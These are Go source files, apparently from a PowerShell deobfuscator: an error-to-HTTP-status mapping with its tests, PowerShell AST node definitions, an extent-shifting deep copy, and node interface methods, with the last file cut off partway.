// HTTPStatus maps a taxonomy error onto the HTTP status code a serving
// frontend should answer with. The split follows the taxonomy's blame
// assignment: input-shaped violations (oversized input, hostile nesting,
// budget-exhausting payloads) are the client's fault and map to 4xx,
// while internal faults map to 5xx. Errors outside the taxonomy — and
// nil — map to 500: an unclassified failure is an internal one.
func HTTPStatus(err error) int {
	switch {
	case errors.Is(err, ErrDeadline):
		// The per-request processing deadline expired.
		return http.StatusGatewayTimeout // 504
	case errors.Is(err, ErrCanceled):
		// The client went away mid-run. 499 is the de facto "client
		// closed request" status (nginx convention); no stdlib constant.
		return 499
	case errors.Is(err, ErrInputBudget):
		return http.StatusRequestEntityTooLarge // 413
	case errors.Is(err, ErrQuota):
		// The tenant exceeded its rate allowance; the identical request
		// succeeds once the bucket refills.
		return http.StatusTooManyRequests // 429
	case errors.Is(err, ErrShed):
		// The server is overloaded and chose to drop this (predicted
		// heavy) request; a later retry against a calmer server is fine.
		return http.StatusServiceUnavailable // 503
	case errors.Is(err, ErrMemBudget),
		errors.Is(err, ErrParseDepth),
		errors.Is(err, ErrOutputBudget),
		errors.Is(err, ErrBadLang):
		// The input itself forced the engine past a resource bound: the
		// request was well-formed but unprocessable within policy.
		return http.StatusUnprocessableEntity // 422
	}
	return http.StatusInternalServerError // 500 (ErrPanic and unclassified)
}
