package limits

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"testing"
	"time"
)

func TestRecoverConvertsPanic(t *testing.T) {
	f := func() (err error) {
		defer Recover("boom-op", &err)
		panic("boom")
	}
	err := f()
	if err == nil {
		t.Fatal("expected error from recovered panic")
	}
	if !errors.Is(err, ErrPanic) {
		t.Fatalf("expected ErrPanic, got %v", err)
	}
	var pe *PanicError
	if !errors.As(err, &pe) {
		t.Fatalf("expected *PanicError, got %T", err)
	}
	if pe.Op != "boom-op" || pe.Value != "boom" || len(pe.Stack) == 0 {
		t.Fatalf("incomplete PanicError: %+v", pe)
	}
}

func TestRecoverNoPanicKeepsError(t *testing.T) {
	f := func() (err error) {
		defer Recover("op", &err)
		return ErrMemBudget
	}
	if err := f(); !errors.Is(err, ErrMemBudget) {
		t.Fatalf("Recover clobbered normal error: %v", err)
	}
}

func TestFromContext(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), time.Nanosecond)
	defer cancel()
	<-ctx.Done()
	if got := FromContext(ctx.Err()); !errors.Is(got, ErrDeadline) {
		t.Fatalf("deadline: got %v", got)
	}
	ctx2, cancel2 := context.WithCancel(context.Background())
	cancel2()
	if got := FromContext(ctx2.Err()); !errors.Is(got, ErrCanceled) {
		t.Fatalf("cancel: got %v", got)
	}
	if got := FromContext(nil); got != nil {
		t.Fatalf("nil passthrough: got %v", got)
	}
}

func TestName(t *testing.T) {
	cases := []struct {
		err  error
		want string
	}{
		{nil, ""},
		{ErrDeadline, "ErrDeadline"},
		{ErrCanceled, "ErrCanceled"},
		{ErrMemBudget, "ErrMemBudget"},
		{ErrParseDepth, "ErrParseDepth"},
		{ErrOutputBudget, "ErrOutputBudget"},
		{ErrInputBudget, "ErrInputBudget"},
		{ErrQuota, "ErrQuota"},
		{ErrShed, "ErrShed"},
		{&PanicError{Op: "x", Value: "y"}, "ErrPanic"},
		{fmt.Errorf("wrapped: %w", ErrDeadline), "ErrDeadline"},
		{errors.New("other"), ""},
	}
	for _, c := range cases {
		if got := Name(c.err); got != c.want {
			t.Errorf("Name(%v) = %q, want %q", c.err, got, c.want)
		}
	}
}

func TestHTTPStatus(t *testing.T) {
	cases := []struct {
		err  error
		want int
	}{
		{ErrDeadline, http.StatusGatewayTimeout},
		{ErrCanceled, 499},
		{ErrInputBudget, http.StatusRequestEntityTooLarge},
		{ErrQuota, http.StatusTooManyRequests},
		{ErrShed, http.StatusServiceUnavailable},
		{ErrMemBudget, http.StatusUnprocessableEntity},
		{ErrParseDepth, http.StatusUnprocessableEntity},
		{ErrOutputBudget, http.StatusUnprocessableEntity},
		{ErrPanic, http.StatusInternalServerError},
		{&PanicError{Op: "x", Value: "y"}, http.StatusInternalServerError},
		{fmt.Errorf("wrapped: %w", ErrDeadline), http.StatusGatewayTimeout},
		{errors.New("other"), http.StatusInternalServerError},
		{nil, http.StatusInternalServerError},
	}
	for _, c := range cases {
		if got := HTTPStatus(c.err); got != c.want {
			t.Errorf("HTTPStatus(%v) = %d, want %d", c.err, got, c.want)
		}
	}
	// Every named taxonomy member must map somewhere deliberate, so a
	// future sentinel cannot silently fall through to 500.
	for _, err := range []error{ErrDeadline, ErrCanceled, ErrMemBudget, ErrParseDepth, ErrOutputBudget, ErrInputBudget, ErrQuota, ErrShed} {
		if got := HTTPStatus(err); got == http.StatusInternalServerError {
			t.Errorf("taxonomy member %v maps to the unclassified 500 bucket", err)
		}
	}
}
