// Package psast defines the abstract syntax tree for PowerShell scripts,
// mirroring the node taxonomy of System.Management.Automation.Language.
//
// Every node records its exact source extent (byte offsets into the
// original script), which is what lets the deobfuscator replace
// recovered pieces strictly in place (paper §III-B5).
package psast

import "fmt"

// Extent is a half-open byte range [Start, End) into the source text.
type Extent struct {
	Start int
	End   int
}

// Text returns the source slice covered by the extent.
func (e Extent) Text(src string) string {
	if e.Start < 0 || e.End > len(src) || e.Start > e.End {
		return ""
	}
	return src[e.Start:e.End]
}

// Len returns the extent length in bytes.
func (e Extent) Len() int { return e.End - e.Start }

// Contains reports whether other lies fully within e.
func (e Extent) Contains(other Extent) bool {
	return e.Start <= other.Start && other.End <= e.End
}

func (e Extent) String() string { return fmt.Sprintf("[%d,%d)", e.Start, e.End) }

// Kind identifies the node type, mirroring the *Ast class names used by
// the paper (e.g. KindBinaryExpression ~ BinaryExpressionAst).
type Kind int

// Node kinds.
const (
	KindInvalid Kind = iota
	KindScriptBlock
	KindParamBlock
	KindParameter
	KindNamedBlock
	KindStatementBlock
	KindPipeline
	KindCommand
	KindCommandParameter
	KindCommandExpression
	KindAssignment
	KindIf
	KindWhile
	KindDoLoop
	KindFor
	KindForEach
	KindSwitch
	KindFunctionDefinition
	KindTry
	KindCatchClause
	KindFlowStatement
	KindBinaryExpression
	KindUnaryExpression
	KindConvertExpression
	KindTypeExpression
	KindConstantExpression
	KindStringConstant
	KindExpandableString
	KindVariableExpression
	KindMemberExpression
	KindInvokeMemberExpression
	KindIndexExpression
	KindArrayLiteral
	KindArrayExpression
	KindSubExpression
	KindParenExpression
	KindScriptBlockExpression
	KindHashtable
)

var kindNames = map[Kind]string{
	KindInvalid:                "InvalidAst",
	KindScriptBlock:            "ScriptBlockAst",
	KindParamBlock:             "ParamBlockAst",
	KindParameter:              "ParameterAst",
	KindNamedBlock:             "NamedBlockAst",
	KindStatementBlock:         "StatementBlockAst",
	KindPipeline:               "PipelineAst",
	KindCommand:                "CommandAst",
	KindCommandParameter:       "CommandParameterAst",
	KindCommandExpression:      "CommandExpressionAst",
	KindAssignment:             "AssignmentStatementAst",
	KindIf:                     "IfStatementAst",
	KindWhile:                  "WhileStatementAst",
	KindDoLoop:                 "DoLoopStatementAst",
	KindFor:                    "ForStatementAst",
	KindForEach:                "ForEachStatementAst",
	KindSwitch:                 "SwitchStatementAst",
	KindFunctionDefinition:     "FunctionDefinitionAst",
	KindTry:                    "TryStatementAst",
	KindCatchClause:            "CatchClauseAst",
	KindFlowStatement:          "FlowStatementAst",
	KindBinaryExpression:       "BinaryExpressionAst",
	KindUnaryExpression:        "UnaryExpressionAst",
	KindConvertExpression:      "ConvertExpressionAst",
	KindTypeExpression:         "TypeExpressionAst",
	KindConstantExpression:     "ConstantExpressionAst",
	KindStringConstant:         "StringConstantExpressionAst",
	KindExpandableString:       "ExpandableStringExpressionAst",
	KindVariableExpression:     "VariableExpressionAst",
	KindMemberExpression:       "MemberExpressionAst",
	KindInvokeMemberExpression: "InvokeMemberExpressionAst",
	KindIndexExpression:        "IndexExpressionAst",
	KindArrayLiteral:           "ArrayLiteralAst",
	KindArrayExpression:        "ArrayExpressionAst",
	KindSubExpression:          "SubExpressionAst",
	KindParenExpression:        "ParenExpressionAst",
	KindScriptBlockExpression:  "ScriptBlockExpressionAst",
	KindHashtable:              "HashtableAst",
}

// String returns the System.Management.Automation.Language-style name.
func (k Kind) String() string {
	if s, ok := kindNames[k]; ok {
		return s
	}
	return fmt.Sprintf("Kind(%d)", int(k))
}

// Node is implemented by all AST nodes.
type Node interface {
	// Extent returns the node's source span.
	Extent() Extent
	// Kind returns the node's type tag.
	Kind() Kind
	// Children returns the node's direct children in source order.
	Children() []Node
}

// ScriptBlock is a whole script or { } block body.
type ScriptBlock struct {
	Ext    Extent
	Params *ParamBlock
	Body   *NamedBlock
}

// ParamBlock is a param(...) declaration.
type ParamBlock struct {
	Ext        Extent
	Parameters []*Parameter
}

// Parameter is one parameter declaration with an optional default.
type Parameter struct {
	Ext     Extent
	Name    string
	Default Node
}

// NamedBlock is the (implicit) end block holding a script block's
// statements.
type NamedBlock struct {
	Ext        Extent
	Statements []Node
}

// StatementBlock is a brace-delimited { statements } block.
type StatementBlock struct {
	Ext        Extent
	Statements []Node
}

// Pipeline is a sequence of pipeline elements separated by |.
type Pipeline struct {
	Ext      Extent
	Elements []Node
	// Background reports a trailing & (job start).
	Background bool
}

// Command is a command invocation with arguments.
type Command struct {
	Ext Extent
	// InvocationOperator is "", "&" or ".".
	InvocationOperator string
	// Name is the command name: a bare-word StringConstant, a quoted
	// string, a variable or a parenthesized expression.
	Name Node
	// Args holds CommandParameter and expression arguments in order.
	Args []Node
	// Redirections like > file or 2>&1, kept as raw text.
	Redirections []string
}

// CommandParameter is a -Name or -Name:arg parameter.
type CommandParameter struct {
	Ext  Extent
	Name string
	// Argument is non-nil for the -Name:value form.
	Argument Node
}

// CommandExpression is an expression used as a pipeline element.
type CommandExpression struct {
	Ext        Extent
	Expression Node
}

// Assignment is an assignment statement ($v = <statement>).
type Assignment struct {
	Ext      Extent
	Left     Node
	Operator string
	Right    Node
}

// IfClause is one condition/body pair of an if statement.
type IfClause struct {
	Cond Node
	Body *StatementBlock
}

// If is an if/elseif/else statement.
type If struct {
	Ext     Extent
	Clauses []IfClause
	Else    *StatementBlock
}

// While is a while or until loop.
type While struct {
	Ext   Extent
	Cond  Node
	Body  *StatementBlock
	Label string
}

// DoLoop is a do {} while/until () loop.
type DoLoop struct {
	Ext   Extent
	Body  *StatementBlock
	Cond  Node
	Until bool
}

// For is a for (init; cond; iter) loop.
type For struct {
	Ext              Extent
	Init, Cond, Iter Node
	Body             *StatementBlock
}

// ForEach is a foreach ($v in expr) loop.
type ForEach struct {
	Ext        Extent
	Variable   *VariableExpression
	Collection Node
	Body       *StatementBlock
}

// SwitchCase is one clause of a switch statement.
type SwitchCase struct {
	Pattern Node
	Body    *StatementBlock
}

// Switch is a switch statement.
type Switch struct {
	Ext     Extent
	Cond    Node
	Cases   []SwitchCase
	Default *StatementBlock
}

// FunctionDefinition is a function or filter definition.
type FunctionDefinition struct {
	Ext      Extent
	Name     string
	IsFilter bool
	Params   []*Parameter
	Body     *ScriptBlock
}

// CatchClause is one catch of a try statement.
type CatchClause struct {
	Ext   Extent
	Types []string
	Body  *StatementBlock
}

// Try is a try/catch/finally statement.
type Try struct {
	Ext     Extent
	Body    *StatementBlock
	Catches []*CatchClause
	Finally *StatementBlock
}

// FlowStatement is return, throw, break, continue or exit with an
// optional value.
type FlowStatement struct {
	Ext     Extent
	Keyword string
	Value   Node
}

// BinaryExpression is left <op> right with a PowerShell operator
// (lower-cased, e.g. "+", "-f", "-bxor").
type BinaryExpression struct {
	Ext         Extent
	Operator    string
	Left, Right Node
}

// UnaryExpression is a prefix or postfix unary operation.
type UnaryExpression struct {
	Ext      Extent
	Operator string
	Operand  Node
	Postfix  bool
}

// ConvertExpression is a [type]expr cast.
type ConvertExpression struct {
	Ext      Extent
	TypeName string
	Operand  Node
}

// TypeExpression is a bare [type] literal.
type TypeExpression struct {
	Ext      Extent
	TypeName string
}

// ConstantExpression is a numeric or boolean constant.
type ConstantExpression struct {
	Ext   Extent
	Value any
	Text  string
}

// StringConstant is a literal string: quoted without interpolation, a
// here-string, or a bare word.
type StringConstant struct {
	Ext   Extent
	Value string
	// Bare reports a bare word (command names and arguments).
	Bare bool
	// SingleQuoted reports 'literal' quoting.
	SingleQuoted bool
	// HereString reports @' '@ or @" "@ quoting.
	HereString bool
}

// ExpandableString is a double-quoted string with interpolation.
type ExpandableString struct {
	Ext Extent
	// Raw is the string body as written (escapes unresolved).
	Raw string
	// Parts alternates literal fragments (StringConstant), variables and
	// subexpressions in order.
	Parts []Node
}

// VariableExpression is a $name reference.
type VariableExpression struct {
	Ext  Extent
	Name string
	// Splatted reports @name splatting.
	Splatted bool
}

// MemberExpression is target.member or [type]::member access.
type MemberExpression struct {
	Ext    Extent
	Target Node
	Member Node
	Static bool
}

// InvokeMemberExpression is a method call target.m(args) or
// [type]::m(args).
type InvokeMemberExpression struct {
	Ext    Extent
	Target Node
	Member Node
	Static bool
	Args   []Node
}

// IndexExpression is target[index].
type IndexExpression struct {
	Ext    Extent
	Target Node
	Index  Node
}

// ArrayLiteral is a comma-separated list (1,2,3).
type ArrayLiteral struct {
	Ext      Extent
	Elements []Node
}

// ArrayExpression is @( statements ).
type ArrayExpression struct {
	Ext        Extent
	Statements []Node
}

// SubExpression is $( statements ).
type SubExpression struct {
	Ext        Extent
	Statements []Node
}

// ParenExpression is ( pipeline ).
type ParenExpression struct {
	Ext      Extent
	Pipeline Node
}

// ScriptBlockExpression is a { ... } literal.
type ScriptBlockExpression struct {
	Ext  Extent
	Body *ScriptBlock
	// Source is the block body text without the braces, matching
	// ScriptBlock.ToString() in PowerShell.
	Source string
}

// HashEntry is one key/value pair of a hashtable literal.
type HashEntry struct {
	Key   Node
	Value Node
}

// Hashtable is an @{ k = v; ... } literal.
type Hashtable struct {
	Ext     Extent
	Entries []HashEntry
}
