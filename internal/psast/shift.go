package psast

// Shift returns a deep copy of n with every extent offset by delta —
// the splice path's tool for reusing an already-parsed subtree at a new
// byte position instead of reparsing its text. With delta == 0 the node
// itself is returned: cached ASTs are immutable by convention, so an
// unshifted reuse can share structure freely.
func Shift(n Node, delta int) Node {
	if n == nil || delta == 0 {
		return n
	}
	switch x := n.(type) {
	case *ScriptBlock:
		return ShiftScriptBlock(x, delta)
	case *ParamBlock:
		return shiftParamBlock(x, delta)
	case *Parameter:
		return shiftParameter(x, delta)
	case *NamedBlock:
		return shiftNamedBlock(x, delta)
	case *StatementBlock:
		return shiftStatementBlock(x, delta)
	case *Pipeline:
		return &Pipeline{Ext: shiftExt(x.Ext, delta), Elements: shiftSlice(x.Elements, delta), Background: x.Background}
	case *Command:
		return &Command{
			Ext:                shiftExt(x.Ext, delta),
			InvocationOperator: x.InvocationOperator,
			Name:               Shift(x.Name, delta),
			Args:               shiftSlice(x.Args, delta),
			Redirections:       x.Redirections,
		}
	case *CommandParameter:
		return &CommandParameter{Ext: shiftExt(x.Ext, delta), Name: x.Name, Argument: Shift(x.Argument, delta)}
	case *CommandExpression:
		return &CommandExpression{Ext: shiftExt(x.Ext, delta), Expression: Shift(x.Expression, delta)}
	case *Assignment:
		return &Assignment{Ext: shiftExt(x.Ext, delta), Left: Shift(x.Left, delta), Operator: x.Operator, Right: Shift(x.Right, delta)}
	case *If:
		out := &If{Ext: shiftExt(x.Ext, delta), Else: shiftStatementBlock(x.Else, delta)}
		if x.Clauses != nil {
			out.Clauses = make([]IfClause, len(x.Clauses))
			for i, cl := range x.Clauses {
				out.Clauses[i] = IfClause{Cond: Shift(cl.Cond, delta), Body: shiftStatementBlock(cl.Body, delta)}
			}
		}
		return out
	case *While:
		return &While{Ext: shiftExt(x.Ext, delta), Cond: Shift(x.Cond, delta), Body: shiftStatementBlock(x.Body, delta), Label: x.Label}
	case *DoLoop:
		return &DoLoop{Ext: shiftExt(x.Ext, delta), Body: shiftStatementBlock(x.Body, delta), Cond: Shift(x.Cond, delta), Until: x.Until}
	case *For:
		return &For{
			Ext:  shiftExt(x.Ext, delta),
			Init: Shift(x.Init, delta), Cond: Shift(x.Cond, delta), Iter: Shift(x.Iter, delta),
			Body: shiftStatementBlock(x.Body, delta),
		}
	case *ForEach:
		out := &ForEach{Ext: shiftExt(x.Ext, delta), Collection: Shift(x.Collection, delta), Body: shiftStatementBlock(x.Body, delta)}
		if x.Variable != nil {
			out.Variable = Shift(x.Variable, delta).(*VariableExpression)
		}
		return out
	case *Switch:
		out := &Switch{Ext: shiftExt(x.Ext, delta), Cond: Shift(x.Cond, delta), Default: shiftStatementBlock(x.Default, delta)}
		if x.Cases != nil {
			out.Cases = make([]SwitchCase, len(x.Cases))
			for i, c := range x.Cases {
				out.Cases[i] = SwitchCase{Pattern: Shift(c.Pattern, delta), Body: shiftStatementBlock(c.Body, delta)}
			}
		}
		return out
	case *FunctionDefinition:
		out := &FunctionDefinition{Ext: shiftExt(x.Ext, delta), Name: x.Name, IsFilter: x.IsFilter, Body: ShiftScriptBlock(x.Body, delta)}
		if x.Params != nil {
			out.Params = make([]*Parameter, len(x.Params))
			for i, p := range x.Params {
				out.Params[i] = shiftParameter(p, delta)
			}
		}
		return out
	case *Try:
		out := &Try{Ext: shiftExt(x.Ext, delta), Body: shiftStatementBlock(x.Body, delta), Finally: shiftStatementBlock(x.Finally, delta)}
		if x.Catches != nil {
			out.Catches = make([]*CatchClause, len(x.Catches))
			for i, c := range x.Catches {
				out.Catches[i] = &CatchClause{Ext: shiftExt(c.Ext, delta), Types: c.Types, Body: shiftStatementBlock(c.Body, delta)}
			}
		}
		return out
	case *CatchClause:
		return &CatchClause{Ext: shiftExt(x.Ext, delta), Types: x.Types, Body: shiftStatementBlock(x.Body, delta)}
	case *FlowStatement:
		return &FlowStatement{Ext: shiftExt(x.Ext, delta), Keyword: x.Keyword, Value: Shift(x.Value, delta)}
	case *BinaryExpression:
		return &BinaryExpression{Ext: shiftExt(x.Ext, delta), Operator: x.Operator, Left: Shift(x.Left, delta), Right: Shift(x.Right, delta)}
	case *UnaryExpression:
		return &UnaryExpression{Ext: shiftExt(x.Ext, delta), Operator: x.Operator, Operand: Shift(x.Operand, delta), Postfix: x.Postfix}
	case *ConvertExpression:
		return &ConvertExpression{Ext: shiftExt(x.Ext, delta), TypeName: x.TypeName, Operand: Shift(x.Operand, delta)}
	case *TypeExpression:
		return &TypeExpression{Ext: shiftExt(x.Ext, delta), TypeName: x.TypeName}
	case *ConstantExpression:
		return &ConstantExpression{Ext: shiftExt(x.Ext, delta), Value: x.Value, Text: x.Text}
	case *StringConstant:
		return &StringConstant{Ext: shiftExt(x.Ext, delta), Value: x.Value, Bare: x.Bare, SingleQuoted: x.SingleQuoted, HereString: x.HereString}
	case *ExpandableString:
		return &ExpandableString{Ext: shiftExt(x.Ext, delta), Raw: x.Raw, Parts: shiftSlice(x.Parts, delta)}
	case *VariableExpression:
		return &VariableExpression{Ext: shiftExt(x.Ext, delta), Name: x.Name, Splatted: x.Splatted}
	case *MemberExpression:
		return &MemberExpression{Ext: shiftExt(x.Ext, delta), Target: Shift(x.Target, delta), Member: Shift(x.Member, delta), Static: x.Static}
	case *InvokeMemberExpression:
		return &InvokeMemberExpression{
			Ext:    shiftExt(x.Ext, delta),
			Target: Shift(x.Target, delta), Member: Shift(x.Member, delta),
			Static: x.Static, Args: shiftSlice(x.Args, delta),
		}
	case *IndexExpression:
		return &IndexExpression{Ext: shiftExt(x.Ext, delta), Target: Shift(x.Target, delta), Index: Shift(x.Index, delta)}
	case *ArrayLiteral:
		return &ArrayLiteral{Ext: shiftExt(x.Ext, delta), Elements: shiftSlice(x.Elements, delta)}
	case *ArrayExpression:
		return &ArrayExpression{Ext: shiftExt(x.Ext, delta), Statements: shiftSlice(x.Statements, delta)}
	case *SubExpression:
		return &SubExpression{Ext: shiftExt(x.Ext, delta), Statements: shiftSlice(x.Statements, delta)}
	case *ParenExpression:
		return &ParenExpression{Ext: shiftExt(x.Ext, delta), Pipeline: Shift(x.Pipeline, delta)}
	case *ScriptBlockExpression:
		return &ScriptBlockExpression{Ext: shiftExt(x.Ext, delta), Body: ShiftScriptBlock(x.Body, delta), Source: x.Source}
	case *Hashtable:
		out := &Hashtable{Ext: shiftExt(x.Ext, delta)}
		if x.Entries != nil {
			out.Entries = make([]HashEntry, len(x.Entries))
			for i, e := range x.Entries {
				out.Entries[i] = HashEntry{Key: Shift(e.Key, delta), Value: Shift(e.Value, delta)}
			}
		}
		return out
	default:
		// Unknown node kind: shifting would silently corrupt extents, so
		// refuse by returning nil; Splice callers treat that as a
		// synthesis failure and fall back to a full reparse.
		return nil
	}
}

// ShiftScriptBlock is Shift specialized to the root node type.
func ShiftScriptBlock(x *ScriptBlock, delta int) *ScriptBlock {
	if x == nil {
		return nil
	}
	if delta == 0 {
		return x
	}
	return &ScriptBlock{Ext: shiftExt(x.Ext, delta), Params: shiftParamBlock(x.Params, delta), Body: shiftNamedBlock(x.Body, delta)}
}

func shiftExt(e Extent, delta int) Extent {
	return Extent{Start: e.Start + delta, End: e.End + delta}
}

func shiftSlice(ns []Node, delta int) []Node {
	if ns == nil {
		return nil
	}
	out := make([]Node, len(ns))
	for i, n := range ns {
		out[i] = Shift(n, delta)
	}
	return out
}

func shiftParamBlock(x *ParamBlock, delta int) *ParamBlock {
	if x == nil {
		return nil
	}
	if delta == 0 {
		return x
	}
	out := &ParamBlock{Ext: shiftExt(x.Ext, delta)}
	if x.Parameters != nil {
		out.Parameters = make([]*Parameter, len(x.Parameters))
		for i, p := range x.Parameters {
			out.Parameters[i] = shiftParameter(p, delta)
		}
	}
	return out
}

func shiftParameter(x *Parameter, delta int) *Parameter {
	if x == nil {
		return nil
	}
	if delta == 0 {
		return x
	}
	return &Parameter{Ext: shiftExt(x.Ext, delta), Name: x.Name, Default: Shift(x.Default, delta)}
}

func shiftNamedBlock(x *NamedBlock, delta int) *NamedBlock {
	if x == nil {
		return nil
	}
	if delta == 0 {
		return x
	}
	return &NamedBlock{Ext: shiftExt(x.Ext, delta), Statements: shiftSlice(x.Statements, delta)}
}

func shiftStatementBlock(x *StatementBlock, delta int) *StatementBlock {
	if x == nil {
		return nil
	}
	if delta == 0 {
		return x
	}
	return &StatementBlock{Ext: shiftExt(x.Ext, delta), Statements: shiftSlice(x.Statements, delta)}
}
