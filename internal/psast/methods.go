package psast

// This file implements the Node interface for every AST type.

// nonNil filters nil entries in place. Every caller passes an explicit
// argument list, so the variadic backing array is freshly allocated per
// call and safe to reuse as the result — Children() is on the hot path
// of both visiting and text reconstruction, and the second slice this
// used to allocate was one of the larger allocation sources in the
// whole pipeline.
func nonNil(nodes ...Node) []Node {
	out := nodes[:0]
	for _, n := range nodes {
		if n != nil {
			out = append(out, n)
		}
	}
	return out
}

// Extent implements Node.
func (n *ScriptBlock) Extent() Extent { return n.Ext }

// Kind implements Node.
func (n *ScriptBlock) Kind() Kind { return KindScriptBlock }

// Children implements Node.
func (n *ScriptBlock) Children() []Node {
	var out []Node
	if n.Params != nil {
		out = append(out, n.Params)
	}
	if n.Body != nil {
		out = append(out, n.Body)
	}
	return out
}

// Extent implements Node.
func (n *ParamBlock) Extent() Extent { return n.Ext }

// Kind implements Node.
func (n *ParamBlock) Kind() Kind { return KindParamBlock }

// Children implements Node.
func (n *ParamBlock) Children() []Node {
	out := make([]Node, len(n.Parameters))
	for i, p := range n.Parameters {
		out[i] = p
	}
	return out
}

// Extent implements Node.
func (n *Parameter) Extent() Extent { return n.Ext }

// Kind implements Node.
func (n *Parameter) Kind() Kind { return KindParameter }

// Children implements Node.
func (n *Parameter) Children() []Node { return nonNil(n.Default) }

// Extent implements Node.
func (n *NamedBlock) Extent() Extent { return n.Ext }

// Kind implements Node.
func (n *NamedBlock) Kind() Kind { return KindNamedBlock }

// Children implements Node.
func (n *NamedBlock) Children() []Node { return n.Statements }

// Extent implements Node.
func (n *StatementBlock) Extent() Extent { return n.Ext }

// Kind implements Node.
func (n *StatementBlock) Kind() Kind { return KindStatementBlock }

// Children implements Node.
func (n *StatementBlock) Children() []Node { return n.Statements }

// Extent implements Node.
func (n *Pipeline) Extent() Extent { return n.Ext }

// Kind implements Node.
func (n *Pipeline) Kind() Kind { return KindPipeline }

// Children implements Node.
func (n *Pipeline) Children() []Node { return n.Elements }

// Extent implements Node.
func (n *Command) Extent() Extent { return n.Ext }

// Kind implements Node.
func (n *Command) Kind() Kind { return KindCommand }

// Children implements Node.
func (n *Command) Children() []Node {
	out := nonNil(n.Name)
	out = append(out, n.Args...)
	return out
}

// Extent implements Node.
func (n *CommandParameter) Extent() Extent { return n.Ext }

// Kind implements Node.
func (n *CommandParameter) Kind() Kind { return KindCommandParameter }

// Children implements Node.
func (n *CommandParameter) Children() []Node { return nonNil(n.Argument) }

// Extent implements Node.
func (n *CommandExpression) Extent() Extent { return n.Ext }

// Kind implements Node.
func (n *CommandExpression) Kind() Kind { return KindCommandExpression }

// Children implements Node.
func (n *CommandExpression) Children() []Node { return nonNil(n.Expression) }

// Extent implements Node.
func (n *Assignment) Extent() Extent { return n.Ext }

// Kind implements Node.
func (n *Assignment) Kind() Kind { return KindAssignment }

// Children implements Node.
func (n *Assignment) Children() []Node { return nonNil(n.Left, n.Right) }

// Extent implements Node.
func (n *If) Extent() Extent { return n.Ext }

// Kind implements Node.
func (n *If) Kind() Kind { return KindIf }

// Children implements Node.
func (n *If) Children() []Node {
	var out []Node
	for _, c := range n.Clauses {
		out = append(out, nonNil(c.Cond, c.Body)...)
	}
	if n.Else != nil {
		out = append(out, n.Else)
	}
	return out
}

// Extent implements Node.
func (n *While) Extent() Extent { return n.Ext }

// Kind implements Node.
func (n *While) Kind() Kind { return KindWhile }

// Children implements Node.
func (n *While) Children() []Node { return nonNil(n.Cond, n.Body) }

// Extent implements Node.
func (n *DoLoop) Extent() Extent { return n.Ext }

// Kind implements Node.
func (n *DoLoop) Kind() Kind { return KindDoLoop }

// Children implements Node.
func (n *DoLoop) Children() []Node { return nonNil(n.Body, n.Cond) }

// Extent implements Node.
func (n *For) Extent() Extent { return n.Ext }

// Kind implements Node.
func (n *For) Kind() Kind { return KindFor }

// Children implements Node.
func (n *For) Children() []Node { return nonNil(n.Init, n.Cond, n.Iter, n.Body) }

// Extent implements Node.
func (n *ForEach) Extent() Extent { return n.Ext }

// Kind implements Node.
func (n *ForEach) Kind() Kind { return KindForEach }

// Children implements Node.
func (n *ForEach) Children() []Node {
	var out []Node
	if n.Variable != nil {
		out = append(out, n.Variable)
	}
	return append(out, nonNil(n.Collection, n.Body)...)
}

// Extent implements Node.
func (n *Switch) Extent() Extent { return n.Ext }

// Kind implements Node.
func (n *Switch) Kind() Kind { return KindSwitch }

// Children implements Node.
func (n *Switch) Children() []Node {
	out := nonNil(n.Cond)
	for _, c := range n.Cases {
		out = append(out, nonNil(c.Pattern, c.Body)...)
	}
	if n.Default != nil {
		out = append(out, n.Default)
	}
	return out
}

// Extent implements Node.
func (n *FunctionDefinition) Extent() Extent { return n.Ext }

// Kind implements Node.
func (n *FunctionDefinition) Kind() Kind { return KindFunctionDefinition }

// Children implements Node.
func (n *FunctionDefinition) Children() []Node {
	var out []Node
	for _, p := range n.Params {
		out = append(out, p)
	}
	if n.Body != nil {
		out = append(out, n.Body)
	}
	return out
}

// Extent implements Node.
func (n *CatchClause) Extent() Extent { return n.Ext }

// Kind implements Node.
func (n *CatchClause) Kind() Kind { return KindCatchClause }

// Children implements Node.
func (n *CatchClause) Children() []Node { return nonNil(n.Body) }

// Extent implements Node.
func (n *Try) Extent() Extent { return n.Ext }

// Kind implements Node.
func (n *Try) Kind() Kind { return KindTry }

// Children implements Node.
func (n *Try) Children() []Node {
	out := nonNil(n.Body)
	for _, c := range n.Catches {
		out = append(out, c)
	}
	if n.Finally != nil {
		out = append(out, n.Finally)
	}
	return out
}

// Extent implements Node.
func (n *FlowStatement) Extent() Extent { return n.Ext }

// Kind implements Node.
func (n *FlowStatement) Kind() Kind { return KindFlowStatement }

// Children implements Node.
func (n *FlowStatement) Children() []Node { return nonNil(n.Value) }

// Extent implements Node.
func (n *BinaryExpression) Extent() Extent { return n.Ext }

// Kind implements Node.
func (n *BinaryExpression) Kind() Kind { return KindBinaryExpression }

// Children implements Node.
func (n *BinaryExpression) Children() []Node { return nonNil(n.Left, n.Right) }

// Extent implements Node.
func (n *UnaryExpression) Extent() Extent { return n.Ext }

// Kind implements Node.
func (n *UnaryExpression) Kind() Kind { return KindUnaryExpression }

// Children implements Node.
func (n *UnaryExpression) Children() []Node { return nonNil(n.Operand) }

// Extent implements Node.
func (n *ConvertExpression) Extent() Extent { return n.Ext }

// Kind implements Node.
func (n *ConvertExpression) Kind() Kind { return KindConvertExpression }

// Children implements Node.
func (n *ConvertExpression) Children() []Node { return nonNil(n.Operand) }

// Extent implements Node.
func (n *TypeExpression) Extent() Extent { return n.Ext }

// Kind implements Node.
func (n *TypeExpression) Kind() Kind { return KindTypeExpression }

// Children implements Node.
func (n *TypeExpression) Children() []Node { return nil }

// Extent implements Node.
func (n *ConstantExpression) Extent() Extent { return n.Ext }

// Kind implements Node.
func (n *ConstantExpression) Kind() Kind { return KindConstantExpression }

// Children implements Node.
func (n *ConstantExpression) Children() []Node { return nil }

// Extent implements Node.
func (n *StringConstant) Extent() Extent { return n.Ext }

// Kind implements Node.
func (n *StringConstant) Kind() Kind { return KindStringConstant }

// Children implements Node.
func (n *StringConstant) Children() []Node { return nil }

// Extent implements Node.
func (n *ExpandableString) Extent() Extent { return n.Ext }

// Kind implements Node.
func (n *ExpandableString) Kind() Kind { return KindExpandableString }

// Children implements Node.
func (n *ExpandableString) Children() []Node { return n.Parts }

// Extent implements Node.
func (n *VariableExpression) Extent() Extent { return n.Ext }

// Kind implements Node.
